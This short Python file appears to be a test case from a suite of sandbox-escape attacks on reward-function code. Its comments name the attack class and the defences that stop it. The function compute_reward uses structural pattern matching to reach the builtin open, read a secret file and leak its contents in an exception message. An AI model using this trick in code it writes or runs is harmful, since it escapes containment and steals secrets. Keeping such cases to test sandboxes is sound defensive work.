# attack: a class pattern on a function's builtins
# group: traversal
# wall: language; alone: seccomp (no open)

def compute_reward(x):
    match compute_reward:
        case object(__builtins__={"open": opener}):
            raise ValueError(opener("@SECRET@").read())
    return x, {}
